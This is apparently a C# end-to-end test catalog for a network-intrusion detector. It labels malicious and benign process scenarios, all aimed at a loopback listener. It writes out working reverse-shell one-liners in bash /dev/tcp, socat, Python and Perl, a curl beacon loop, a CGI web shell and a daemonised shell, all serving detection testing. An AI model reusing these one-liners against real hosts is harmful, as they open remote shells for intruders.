using System.Globalization;
using System.Net;
using System.Net.Sockets;
using static N3ttrace.EndToEnd.Tests.Scenarios.ScenarioListener;

namespace N3ttrace.EndToEnd.Tests.Scenarios;

/// <summary>
/// The labelled scenarios. Malicious ones are the classic reverse shells, a beacon, a web shell and a
/// daemonised shell; benign ones get real contexts (a cgroup named like a systemd unit, a tty from tmux,
/// a login uid). Every process is real and talks only to its scenario's loopback listener.
/// </summary>
internal static class ScenarioCatalog
{
    public const string Python = "/usr/bin/python3";

    // The issue's 1 s +-20%. The detector ignores the interval's scale, but a shorter interval is swamped by
    // process start-up jitter on a loaded 2-core machine; 30 s runs alongside the benign minute anyway.
    public const double BeaconSeconds = 1.0;
    public const int BeaconCalls = 30;

    public static IReadOnlyList<Scenario> All(string id) =>
    [
        new("bash /dev/tcp reverse shell", true, "THREAT", null, "stdio-socket", Mode.Shell,
            (l, _) => Contexts.RunAsync(["/bin/bash", "-c", $"bash -i >& /dev/tcp/127.0.0.1/{l.Port} 0>&1"], TimeSpan.FromSeconds(15))),

        new("socat exec: shell", true, "THREAT", null, "lolbin-shell", Mode.Shell,
            (l, _) => Contexts.RunAsync(["/usr/bin/socat", $"TCP:127.0.0.1:{l.Port}", "EXEC:/bin/sh"], TimeSpan.FromSeconds(15))),

        new("python pty reverse shell", true, "THREAT", null, "stdio-socket", Mode.Shell,
            (l, _) => Contexts.RunAsync([Python, "-c",
                $"import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',{l.Port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"],
                TimeSpan.FromSeconds(15))),

        new("perl socket shell", true, "THREAT", null, "stdio-socket", Mode.Shell,
            (l, _) => Contexts.RunAsync(["/usr/bin/perl", "-e",
                "use Socket;$i='127.0.0.1';$p=" + l.Port + ";socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));" +
                "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');};"],
                TimeSpan.FromSeconds(15))),

        // [judgement] A beacon alone is behaviour worth a look (ANOMALY), not a verdict of intrusion: THREAT is for shells and tunnels.
        new("beacon loop (30 calls, 1 s +-20%)", true, "ANOMALY", null, "beacon", Mode.Http,
            (l, _) => Contexts.RunAsync(["/bin/bash", "-c",
                $"for i in $(seq {BeaconCalls}); do curl -s -o /dev/null http://127.0.0.1:{l.Port}/b; " +
                $"sleep $(awk -v r=$RANDOM 'BEGIN{{printf \"%.3f\", {BeaconSeconds.ToString(CultureInfo.InvariantCulture)}*(0.8+0.4*r/32767)}}'); done"],
                TimeSpan.FromSeconds(70))),

        new("web server spawns sh -c curl (CGI)", true, "THREAT", null, "server-child", Mode.Http, WebShell),

        // [judgement] Its stdin is /dev/null (a background job): orphan-shell stays silent for such automation-shaped shells;
        // the THREAT comes from the behaviour, a shell holding the TCP connection itself.
        new("double-forked background shell", true, "THREAT", null, "shell-connect", Mode.Shell,
            async (l, _) =>
            {
                await Contexts.RunAsync(["/bin/bash", "-c",
                    $"( setsid bash -c 'sleep 0.5; exec 3<>/dev/tcp/127.0.0.1/{l.Port}; cat <&3 >/dev/null' & ); exit 0"], TimeSpan.FromSeconds(5));
                await l.WaitAccepted(1, TimeSpan.FromSeconds(10));
                await Task.Delay(2500);
            }),

        new("benign long-lived service connection", false, "NORMAL", "background service", "long-lived", Mode.Shell,
            async (l, _) =>
            {
                var cg = Contexts.Cgroup($"system.slice/n3t-db-{id}.service");
                await Contexts.RunAsync(Contexts.InCgroup(cg, Python, "-c",
                    "import socket,sys,time\ns=socket.create_connection(('127.0.0.1',int(sys.argv[1])))\ntime.sleep(8)\ns.close()", Port(l)), TimeSpan.FromSeconds(20));
                Contexts.RemoveCgroup(cg);
            }),

        new("apt-get update from apt-daily.service", false, "NORMAL", "update check", "update check", Mode.Http,
            async (l, dir) =>
            {
                var apt = Directory.CreateDirectory(Path.Combine(dir, "apt")).FullName;
                foreach (var d in new[] { "lists/partial", "cache/archives/partial", "parts" })
                {
                    Directory.CreateDirectory(Path.Combine(apt, d));
                }
                File.WriteAllText(Path.Combine(apt, "sources.list"), $"deb http://127.0.0.1:{l.Port}/debian bookworm main\n");
                var cg = Contexts.Cgroup($"system.slice/apt-daily.service/n3t-{id}");
                await Contexts.RunAsync(Contexts.InCgroup(cg, "/usr/bin/apt-get", "-q",
                    "-o", $"Dir::Etc::sourcelist={apt}/sources.list", "-o", $"Dir::Etc::sourceparts={apt}/parts",
                    "-o", $"Dir::State::Lists={apt}/lists", "-o", $"Dir::Cache={apt}/cache", "-o", "Debug::NoLocking=1",
                    "-o", "APT::Sandbox::User=root", "-o", "Acquire::Retries=0", "update"), TimeSpan.FromSeconds(30));
                Contexts.RemoveCgroup(cg);
            }),

        new("interactive curl in tmux with a login uid", false, "NORMAL", "user action", "tty pts", Mode.Http,
            async (l, dir) =>
            {
                var socket = Path.Combine(dir, "tmux.sock");
                try
                {
                    await Contexts.TmuxAsync(socket,
                        $"sh -c 'echo 1000 > /proc/self/loginuid; curl -s -o /dev/null http://127.0.0.1:{l.Port}/u; sleep 0.5'", TimeSpan.FromSeconds(15));
                }
                finally
                {
                    await Contexts.KillTmuxAsync(socket);
                }
            }),

        new("periodic telemetry sender from a service", false, "NORMAL", "telemetry", "periodic", Mode.Http,
            async (l, _) =>
            {
                var cg = Contexts.Cgroup($"system.slice/n3t-sender-{id}.service");
                await Contexts.RunAsync(Contexts.InCgroup(cg, Python, "-c",
                    "import socket,sys,time,random\nfor i in range(12):\n s=socket.create_connection(('127.0.0.1',int(sys.argv[1])))\n" +
                    " s.sendall(b'POST /m HTTP/1.0\\r\\n\\r\\n'); s.recv(100); s.close()\n time.sleep(random.uniform(0.9,1.1))", Port(l)),
                    TimeSpan.FromSeconds(30));
                Contexts.RemoveCgroup(cg);
            }),
    ];

    private static string Port(ScenarioListener l) => l.Port.ToString(CultureInfo.InvariantCulture);

    /// <summary>python's http.server with CGI: a request makes the server fork a CGI script that runs sh -c 'curl ...'.</summary>
    private static async Task WebShell(ScenarioListener l, string dir)
    {
        var www = Directory.CreateDirectory(Path.Combine(dir, "www")).FullName;
        var cgi = Directory.CreateDirectory(Path.Combine(www, "cgi-bin")).FullName;
        var script = Path.Combine(cgi, "run.sh");
        File.WriteAllText(script, $"#!/bin/sh\necho 'Content-Type: text/plain'\necho\nsh -c 'curl -s -o /dev/null http://127.0.0.1:{l.Port}/w'\necho done\n");
        const UnixFileMode rx = UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute | UnixFileMode.GroupRead |
            UnixFileMode.GroupExecute | UnixFileMode.OtherRead | UnixFileMode.OtherExecute;
        foreach (var p in new[] { dir, www, cgi, script })
        {
            File.SetUnixFileMode(p, rx); // the CGI child runs as nobody
        }
        int port;
        using (var probe = new TcpListener(IPAddress.Loopback, 0))
        {
            probe.Start();
            port = ((IPEndPoint)probe.LocalEndpoint).Port;
        }
        using var server = Contexts.Start([Python, "-m", "http.server", "--cgi", "--bind", "127.0.0.1", port.ToString(CultureInfo.InvariantCulture)], www);
        try
        {
            using var http = new HttpClient { Timeout = TimeSpan.FromSeconds(10) };
            for (var i = 0; i < 50; i++)
            {
                try
                {
                    await http.GetStringAsync(new Uri($"http://127.0.0.1:{port}/cgi-bin/run.sh"));
                    break;
                }
                catch (HttpRequestException)
                {
                    await Task.Delay(100);
                }
            }
            await l.WaitAccepted(1, TimeSpan.FromSeconds(5));
        }
        finally
        {
            server.Kill();
        }
    }
}
